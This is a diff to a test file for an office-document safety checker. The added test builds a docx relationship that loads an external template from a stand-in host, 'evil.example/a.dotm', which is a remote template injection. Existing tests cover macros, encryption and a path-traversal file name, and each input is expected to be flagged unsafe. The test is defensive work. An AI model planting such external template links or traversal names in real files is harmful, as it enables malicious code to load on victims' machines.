@@ -80,6 +80,9 @@ describe('an office document', () => {
 
   test('with macros, a password or names that leave its folder is unsafe', async () => {
     expect(await problem(sampleDocx([{ name: 'word/vbaProject.bin', content: 'x' }]))).toBe('fileUnsafe')
+    const fetched =
+      '<Relationship Type="/attachedTemplate" TargetMode="External" Target="https://evil.example/a.dotm"/>'
+    expect(await problem(sampleDocx([{ name: 'word/_rels/settings.xml.rels', content: fetched }]))).toBe('fileUnsafe')
     expect(await problem(zipOf([macroTypes, wordParts[1] as (typeof wordParts)[0]]))).toBe('fileUnsafe')
     expect(await problem(sampleDocx([{ name: 'word/a.xml', content: 'x', encrypted: true }]))).toBe('fileUnsafe')
     expect(await problem(sampleDocx([{ name: '../../a.xml', content: 'x' }]))).toBe('fileUnsafe')
